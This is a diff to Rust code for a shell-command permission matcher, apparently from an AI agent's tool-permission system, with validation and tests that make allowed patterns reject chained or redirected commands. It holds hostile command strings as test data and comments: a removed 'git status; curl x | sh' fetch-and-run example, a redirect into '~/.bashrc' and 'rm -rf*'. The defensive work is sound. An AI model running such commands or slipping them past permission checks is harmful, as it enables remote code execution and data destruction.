@@ -35,6 +35,12 @@ impl ScopeMatcher {
             return Ok(ScopeMatcher::Any);
         }
         if is_shell(tool) {
+            if !valid_shell_pattern(pattern) {
+                return Err(format!(
+                    "bad shell pattern `{pattern}`: use plain words and an optional final ` *` \
+                     (e.g. `git log *`)"
+                ));
+            }
             return Ok(ScopeMatcher::Shell(pattern.to_string()));
         }
         let mut pat = pattern.to_string();
@@ -82,61 +88,22 @@ impl ScopeMatcher {
     }
 }
 
-/// Characters that never appear in a plain simple command's words; a command containing one
-/// is not matched by a shell pattern (a learned or allowed `git status *` must not absorb
-/// `git status; curl x | sh` if a segment ever arrives unsplit).
-const SHELL_META: &[char] = &[';', '&', '|', '<', '>', '$', '`', '\n', '(', ')', '\r'];
-
-/// Matches a shell pattern against one simple command: words compare one by one (`*` and `?`
-/// inside a word are wildcards); a final word `*` matches any further words (or none).
+/// Matches a shell pattern against one simple command with the risk module's matcher
+/// (`git log *`: literal words, an optional final `*` for any further arguments; the program
+/// compared by its resolved name; never a list, pipe, substitution or redirection).
 pub fn shell_matches(pattern: &str, command: &str) -> bool {
-    if pattern.trim() == "*" {
+    pattern.trim() == "*" || crate::risk::pattern_matches(pattern, command)
+}
+
+/// Whether a shell pattern is well formed: it must match the command it spells out.
+pub fn valid_shell_pattern(pattern: &str) -> bool {
+    let p = pattern.trim();
+    if p == "*" {
         return true;
     }
-    if command.contains(SHELL_META) {
-        return false;
-    }
-    let pat: Vec<&str> = shell_words(pattern).collect();
-    let cmd: Vec<&str> = shell_words(command).collect();
-    let (head, open) = match pat.split_last() {
-        Some((&"*", head)) => (head, true),
-        _ => (pat.as_slice(), false),
-    };
-    if head.is_empty() || cmd.len() < head.len() || (!open && cmd.len() != head.len()) {
-        return false;
-    }
-    head.iter().zip(&cmd).all(|(p, c)| word_matches(p, c))
-}
-
-/// The words of a simple command as the shell splits them: on blanks (space and tab) only.
-/// Unicode spaces (a no-break space, an ideographic space) are part of a word to bash, so
-/// `npm\u{a0}test` is one word naming another program, never `npm test`.
-fn shell_words(s: &str) -> impl Iterator<Item = &str> {
-    s.split([' ', '\t']).filter(|w| !w.is_empty())
-}
-
-/// `*`/`?` wildcard match of one word.
-fn word_matches(p: &str, w: &str) -> bool {
-    let p: Vec<char> = p.chars().collect();
-    let w: Vec<char> = w.chars().collect();
-    let (mut pi, mut wi, mut star, mut mark) = (0usize, 0usize, None::<usize>, 0usize);
-    while wi < w.len() {
-        if pi < p.len() && (p[pi] == '?' || p[pi] == w[wi]) {
-            pi += 1;
-            wi += 1;
-        } else if pi < p.len() && p[pi] == '*' {
-            star = Some(pi);
-            mark = wi;
-            pi += 1;
-        } else if let Some(s) = star {
-            pi = s + 1;
-            mark += 1;
-            wi = mark;
-        } else {
-            return false;
-        }
-    }
-    p[pi..].iter().all(|c| *c == '*')
+    let spelled = p.strip_suffix(" *").unwrap_or(p);
+    // Wildcards inside words are not pattern syntax (they would match only literally).
+    !spelled.contains(['*', '?']) && shell_matches(p, spelled)
 }
 
 /// Makes a path absolute against `cwd` and resolves `.` and `..` lexically.
@@ -195,8 +162,12 @@ mod tests {
         assert!(!shell_matches("git status *", "git status > ~/.bashrc"));
         assert!(shell_matches("npm test", "npm  test"));
         assert!(!shell_matches("npm test", "npm test --watch"));
-        assert!(shell_matches("cargo t*", "cargo test"));
+        assert!(shell_matches("git log *", "/usr/bin/git log -3"));
         assert!(shell_matches("*", "anything at all; really"));
+        assert!(valid_shell_pattern("git push --force *"));
+        assert!(valid_shell_pattern("npm test"));
+        assert!(!valid_shell_pattern("curl*"));
+        assert!(ScopeMatcher::new("shell", "rm -rf*", None, "/h").is_err());
     }
 
     #[test]
